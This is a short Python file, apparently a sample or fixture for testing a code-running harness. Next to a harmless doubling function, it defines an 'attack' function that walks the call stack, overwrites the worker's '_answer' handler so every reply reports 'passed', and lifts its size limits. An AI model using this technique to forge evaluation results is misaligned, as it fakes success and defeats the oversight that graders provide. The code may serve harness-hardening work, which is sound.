"""Finds the code of its own worker on the stack and makes every reply a success."""

import sys


def double(number):
    return 2 * number


def attack(key):
    frame = sys._getframe()
    while frame:
        if "_answer" in frame.f_globals:
            frame.f_globals["_answer"] = lambda request, objects: {"id": request["id"], "value": "passed", "status": "passed"}
            frame.f_globals["NAME_LIMIT"] = frame.f_globals["MESSAGE_LIMIT"] = 1 << 30
        frame = frame.f_back
    return "passed"


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
